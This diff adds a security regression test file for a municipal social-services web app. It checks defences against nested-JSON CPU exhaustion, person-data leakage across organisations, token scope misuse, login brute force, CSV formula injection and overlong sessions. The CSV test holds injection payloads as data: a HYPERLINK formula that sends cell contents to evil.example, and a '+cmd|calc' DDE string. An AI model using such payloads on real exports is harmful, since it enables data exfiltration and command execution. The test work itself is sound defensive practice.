@@ -1,0 +1,284 @@
+/**
+ * Issue 17: the findings of the attack review, one describe each. Every test here failed on the
+ * code before its fix; docs/SECURITY.md ("Hardening (issue 17)") says what each one proves.
+ */
+import { performance } from 'node:perf_hooks';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sql } from 'drizzle-orm';
+import type { Runtime } from '../src/bootstrap.js';
+import { runInstitutionCommand, type InstitutionCliOptions } from '../src/cli/institution.js';
+import { queryRows } from '../src/db/db.js';
+import { throttleKey } from '../src/db/lockout.js';
+import { DEMO_PASSWORD } from '../src/seed/demo.js';
+import { inszFromParts } from '../src/shared/identifiers.js';
+import { createTestContext, type TestContext } from './test-app.js';
+
+let ctx: TestContext;
+beforeAll(async () => {
+  ctx = await createTestContext();
+}, 60_000);
+afterAll(async () => ctx?.close());
+
+function errorOf(res: { statusCode: number; json(): unknown }) {
+  return (res.json() as { error: { code: string; message: string; fields?: Record<string, string> } }).error;
+}
+
+describe('1. anonymous CPU exhaustion: nesting, body limits, timeouts', () => {
+  it('refuses a body of nested brackets before parsing it, without a cookie: 400 naming the nesting, about as fast as a flat body', async () => {
+    // A route with the 1 MiB limit (refused later for want of a session) and the citizen form (its own limit).
+    for (const [url, size] of [['/api/v1/mergers', 1_000_000], ['/api/v1/public/help-requests', 40_000]] as const) {
+      const nested = '['.repeat(size);
+      const flat = JSON.stringify({ message: 'x'.repeat(size - 20) });
+      const timed = async (payload: string) => {
+        const t0 = performance.now();
+        const res = await ctx.app.inject({ method: 'POST', url, payload, headers: { 'content-type': 'application/json' } });
+        return { res, ms: performance.now() - t0 };
+      };
+      const deep = await timed(nested);
+      const plain = await timed(flat);
+      console.log(`${url}: nested ${size} B → ${deep.res.statusCode} in ${deep.ms.toFixed(1)} ms; flat ${size} B → ${plain.res.statusCode} in ${plain.ms.toFixed(1)} ms`);
+      expect(deep.res.statusCode, url).toBe(400);
+      expect(errorOf(deep.res).fields, url).toHaveProperty('body');
+    }
+  });
+
+  it('accepts nesting up to OCMW_JSON_MAX_DEPTH and counts brackets inside strings as text', async () => {
+    const res = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/v1/session/login',
+      payload: JSON.stringify({ username: '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[', password: '{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{"\\' }),
+      headers: { 'content-type': 'application/json' },
+    });
+    expect(res.statusCode).not.toBe(400);
+  });
+
+  it('gives the citizen form the body limit it needs: 64 KiB is refused with 413', async () => {
+    const res = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/v1/public/help-requests',
+      payload: JSON.stringify({ message: 'x'.repeat(65 * 1024) }),
+      headers: { 'content-type': 'application/json' },
+    });
+    expect(res.statusCode).toBe(413);
+    expect(errorOf(res).code).toBe('payload_too_large');
+  });
+
+  it('sets request, header and keep-alive timeouts on the server from the configuration', async () => {
+    const server = ctx.app.server;
+    expect(server.requestTimeout).toBe(ctx.config.http.requestTimeoutMs);
+    expect(server.headersTimeout).toBe(ctx.config.http.headersTimeoutMs);
+    expect(server.keepAliveTimeout).toBe(ctx.config.http.keepAliveTimeoutMs);
+    expect(server.requestTimeout).toBeLessThanOrEqual(30_000);
+    expect(server.headersTimeout).toBeLessThanOrEqual(15_000);
+  });
+});
+
+async function inszOf(username: string): Promise<string> {
+  const rows = await queryRows<{ insz: string }>(ctx.database.db, sql`select insz from users where username = ${username}`);
+  return rows[0]!.insz;
+}
+
+describe('2. the person directory across organisations', () => {
+  it('shows another organisation’s manager only the name of a person known elsewhere: no username, e-mail, title, language or id', async () => {
+    const tb = ctx.client();
+    const mw = (await tb.loginAs('tb.antwerpen')).context.domain.id as string;
+    const insz = await inszOf('tb.hoeselt');
+    const lookup = (await tb.get(`/api/v1/access/domains/${mw}/persons?insz=${insz}`)).json();
+    expect(lookup).toEqual({ insz, exists: true, surname: expect.any(String), firstName: expect.any(String), isMember: false });
+    const review = await tb.post(`/api/v1/access/domains/${mw}/users/validate`, { insz, type: 'USER', applications: ['ebox'] });
+    expect(review.statusCode).toBe(200);
+    console.log('what OCMW Antwerpen’s TB sees of a Hoeselt person (users/validate):', review.body);
+    const person = review.json().person;
+    expect(person).toMatchObject({ isNew: false, username: null, title: null, language: null, email: null });
+    expect(review.json().userId).toBeNull();
+    expect(review.body).not.toContain('tb.hoeselt');
+
+    // After adding the person to its own domain, the TB still does not read their private e-mail.
+    expect((await tb.post(`/api/v1/access/domains/${mw}/users`, { insz, type: 'USER', applications: ['ebox'] })).statusCode).toBe(201);
+    const list = (await tb.get(`/api/v1/access/domains/${mw}/users?username=tb.hoeselt`)).json();
+    expect(list.items[0]).toMatchObject({ username: 'tb.hoeselt', email: null });
+    const own = (await tb.get(`/api/v1/access/domains/${mw}/users?username=user.antwerpen`)).json();
+    expect(own.items[0].email).toEqual(expect.stringContaining('@'));
+  });
+
+  it('audits each INSZ look-up and refuses more than OCMW_INSZ_LOOKUPS_PER_HOUR per user with 429', async () => {
+    const tb = ctx.client();
+    const domain = (await tb.loginAs('tb.beveren')).context.domain.id as string;
+    const limit = ctx.config.inszLookupsPerHour;
+    for (let n = 1; n <= limit; n++) {
+      const res = await tb.get(`/api/v1/access/domains/${domain}/persons?insz=${inszFromParts('800101', n)}`);
+      expect(res.statusCode, `look-up ${n}`).toBe(200);
+    }
+    const refused = await tb.get(`/api/v1/access/domains/${domain}/persons?insz=${inszFromParts('800101', limit + 1)}`);
+    expect(refused.statusCode).toBe(429);
+    const validate = await tb.post(`/api/v1/access/domains/${domain}/users/validate`, { insz: inszFromParts('800101', 998), type: 'USER', applications: [] });
+    expect(validate.statusCode, validate.body).toBe(429);
+    const [audited] = await queryRows<{ n: number }>(
+      ctx.database.db,
+      sql`select count(*)::int as n from audit_log a join users u on u.id = a.actor_user_id where u.username = 'tb.beveren' and a.action = 'person.lookup'`,
+    );
+    expect(audited!.n).toBe(limit);
+  });
+});
+
+describe('3. machine credentials: scopes, expiry, revocation, institutions only, each use recorded', () => {
+  const orgIdByName = async (name: string) =>
+    (await queryRows<{ id: string; kbo: string }>(ctx.database.db, sql`select id, kbo from organisations where name_nl = ${name}`))[0]!;
+  const cli = async (args: string[], options: Partial<InstitutionCliOptions> = {}) => {
+    const lines: string[] = [];
+    const code = await runInstitutionCommand({ services: ctx.services } as unknown as Runtime, args, { json: true, lang: 'en', ...options }, (t) => lines.push(t));
+    return { code, json: JSON.parse(lines.join('\n')) };
+  };
+  const mutation = async (token: string) =>
+    ctx.app.inject({
+      method: 'POST',
+      url: '/api/v1/institution/mutations',
+      payload: { mutations: [{ type: 'MURN', insz: inszFromParts('800101', 7), occurredAt: '2026-03-11T10:00:00Z', payload: {} }] },
+      headers: { authorization: `Bearer ${token}` },
+    });
+  const ebox = async (token: string, rsz: boolean) =>
+    ctx.app.inject({
+      method: 'POST',
+      url: '/api/v1/institution/ebox/documents',
+      payload: { recipientKbo: '0212235604', title: 'Afrekening', category: 'Afrekeningen', messageType: 'NovaPrima', documentDate: '2026-03-01', body: 'Tekst', rsz },
+      headers: { authorization: `Bearer ${token}` },
+    });
+
+  it('gives tokens only to institutions, only with known scopes', async () => {
+    const cevi = await orgIdByName('Cevi - Logins');
+    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
+    expect((await cli(['token', cevi.kbo, 'vendor'], { scope: 'mutations:write' })).code).toBe(1);
+    expect((await cli(['token', rsz.kbo, 'bad'], { scope: 'mutations:write,everything' })).code).toBe(1);
+    const made = await cli(['token', rsz.kbo, 'RSZ', 'mutaties'], { scope: 'mutations:write', expiresDays: '30' });
+    expect(made.code).toBe(0);
+    expect(made.json).toEqual({ id: expect.any(String), token: expect.stringMatching(/^ocmw_/), scopes: ['mutations:write'], expiresAt: expect.any(String) });
+  });
+
+  it('lets a token do only what its scopes say: mutations, e-Box, RSZ documents', async () => {
+    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
+    const mutationsOnly = (await cli(['token', rsz.kbo, 'm'], { scope: 'mutations:write' })).json.token as string;
+    const eboxOnly = (await cli(['token', rsz.kbo, 'e'], { scope: 'ebox:publish' })).json.token as string;
+    const eboxRsz = (await cli(['token', rsz.kbo, 'r'], { scope: 'ebox:publish,ebox:publish-rsz' })).json.token as string;
+    expect((await mutation(mutationsOnly)).statusCode).toBe(200);
+    expect((await ebox(mutationsOnly, false)).statusCode).toBe(403);
+    expect((await mutation(eboxOnly)).statusCode).toBe(403);
+    expect((await ebox(eboxOnly, false)).statusCode).toBe(201);
+    expect((await ebox(eboxOnly, true)).statusCode).toBe(403);
+    expect((await ebox(eboxRsz, true)).statusCode).toBe(201);
+  });
+
+  it('refuses an expired or revoked token with 401 at once; lists tokens without the secret, with their uses', async () => {
+    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
+    const made = (await cli(['token', rsz.kbo, 'kort'], { scope: 'mutations:write', expiresDays: '1' })).json as { id: string; token: string };
+    expect((await mutation(made.token)).statusCode).toBe(200);
+    await ctx.database.db.execute(sql`update api_clients set expires_at = now() - interval '1 second' where id = ${made.id}`);
+    expect((await mutation(made.token)).statusCode).toBe(401);
+
+    const other = (await cli(['token', rsz.kbo, 'intrekken'], { scope: 'mutations:write' })).json as { id: string; token: string };
+    expect((await mutation(other.token)).statusCode).toBe(200);
+    expect((await cli(['token', 'revoke', other.id])).json).toEqual({ id: other.id, revoked: true });
+    expect((await mutation(other.token)).statusCode).toBe(401);
+
+    const listed = (await cli(['token', 'list', rsz.kbo])).json.tokens as { id: string; uses: number; revokedAt: string | null }[];
+    expect(JSON.stringify(listed)).not.toContain(other.token);
+    expect(listed.find((t) => t.id === other.id)).toMatchObject({ uses: 1, revokedAt: expect.any(String) });
+  });
+
+  it('records each use with the token id, and which token delivered each mutation', async () => {
+    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
+    const made = (await cli(['token', rsz.kbo, 'spoor'], { scope: 'mutations:write' })).json as { id: string; token: string };
+    expect((await mutation(made.token)).statusCode).toBe(200);
+    const uses = await queryRows<{ method: string; route: string }>(ctx.database.db, sql`select method, route from api_client_uses where client_id = ${made.id}`);
+    expect(uses).toEqual([{ method: 'POST', route: '/api/v1/institution/mutations' }]);
+    const [delivered] = await queryRows<{ n: number }>(ctx.database.db, sql`select count(*)::int as n from mutations where api_client_id = ${made.id}`);
+    expect(delivered!.n).toBe(1);
+  });
+});
+
+describe('7. login lockout: alike for every name, a growing delay per name and source', () => {
+  const attempt = async (username: string, password: string, source: string) => {
+    const c = ctx.client();
+    await c.get('/api/v1/session');
+    return c.request({ method: 'POST', url: '/api/v1/session/login', payload: { username, password }, remoteAddress: source });
+  };
+  const answers = async (username: string, source: string) => {
+    const out: string[] = [];
+    for (let i = 0; i < 7; i++) {
+      const res = await attempt(username, 'Fout-wachtwoord-123', source);
+      out.push(`${res.statusCode} ${res.json().error.code}`);
+    }
+    return out;
+  };
+
+  it('answers a real and an unknown username alike, attempt after attempt', async () => {
+    const real = await answers('tb.antwerpen', '10.7.0.1');
+    const unknown = await answers('bestaat.niet', '10.7.0.1');
+    expect(real).toEqual(unknown);
+    expect(real.slice(0, 4).every((a) => a === '401 unauthenticated')).toBe(true);
+    expect(real.at(-1)).toBe('429 rate_limited');
+  });
+
+  it('slows the attacking source down without locking the real user out elsewhere, with a delay that grows', async () => {
+    await answers('cotb.antwerpen', '10.7.0.2');
+    // The real user, from their own address, logs in at once with the right password.
+    expect((await attempt('cotb.antwerpen', DEMO_PASSWORD, '10.7.0.3')).statusCode).toBe(200);
+    // From the attacking source the pair stays closed, and each new failure doubles the delay.
+    const key = throttleKey('person', 'cotb.antwerpen', '10.7.0.2');
+    const lock = async () => (await queryRows<{ s: number }>(ctx.database.db, sql`select extract(epoch from (locked_until - last_attempt_at))::int as s from login_throttles where key = ${key}`))[0]!.s;
+    const first = await lock();
+    await ctx.database.db.execute(sql`update login_throttles set locked_until = now() - interval '1 second' where key = ${key}`);
+    expect((await attempt('cotb.antwerpen', 'Fout-wachtwoord-123', '10.7.0.2')).statusCode).toBe(401);
+    expect(await lock()).toBe(Math.min(first * 2, ctx.config.loginLockMinutes * 60));
+    expect((await attempt('cotb.antwerpen', DEMO_PASSWORD, '10.7.0.2')).statusCode).toBe(429);
+  });
+});
+
+describe('4. CSV formula injection', () => {
+  it('neutralises a name written as a formula in the user list and the audit CSV exports', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+    const user = ctx.client();
+    await user.loginAs('user.antwerpen');
+    const me = (await user.get('/api/v1/me')).json();
+    const saved = await user.request({ method: 'PUT', url: '/api/v1/me', payload: { surname: formula, firstName: '+cmd|calc', title: me.title, language: me.language, email: me.email } });
+    expect(saved.statusCode, saved.body).toBe(200);
+
+    const tb = ctx.client();
+    const mw = (await tb.loginAs('tb.antwerpen')).context.domain.id as string;
+    const list = (await tb.get(`/api/v1/access/domains/${mw}/users/export?format=csv&username=user.antwerpen`)).body;
+    const htb = ctx.client();
+    await htb.loginAs('htb.antwerpen');
+    const audit = (await htb.get('/api/v1/access/audit/export?format=csv')).body;
+    for (const csv of [list, audit]) {
+      const cells = csv.split(/[;\n]/).map((c) => c.replace(/^"|"$/g, ''));
+      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
+    }
+    expect(list).toContain(`'=HYPERLINK`);
+    expect(list).toContain(`'+cmd|calc`);
+  });
+});
+
+describe('10. sessions have an absolute lifetime', () => {
+  let timed: TestContext;
+  let wall = new Date('2026-03-02T08:00:00Z');
+  beforeAll(async () => {
+    timed = await createTestContext({ now: () => wall });
+  }, 60_000);
+  afterAll(async () => timed?.close());
+
+  it('ends a session OCMW_SESSION_MAX_HOURS (12 h) after login, however active, also across an organisation choice', async () => {
+    expect(timed.config.sessionMaxHours).toBe(12);
+    const person = timed.client();
+    await person.loginAs('an.peeters', 'Antwerpen');
+    for (const hours of [3, 6, 9, 11]) {
+      wall = new Date(Date.parse('2026-03-02T08:00:00Z') + hours * 3_600_000);
+      expect((await person.get('/api/v1/session')).json().user?.username, `after ${hours} h`).toBe('an.peeters');
+    }
+    // A new id at an organisation choice keeps the login time.
+    const { choices } = (await person.get('/api/v1/session')).json();
+    const borsbeek = choices.find((c: { organisation: { name: { nl: string } } | null }) => c.organisation?.name.nl.includes('Borsbeek'));
+    expect((await person.post('/api/v1/session/context', { choiceId: borsbeek.id })).statusCode).toBe(200);
+    wall = new Date(Date.parse('2026-03-02T08:00:00Z') + 12 * 3_600_000 + 60_000);
+    const after = await person.get('/api/v1/me');
+    expect(after.statusCode).toBe(401);
+  });
+});
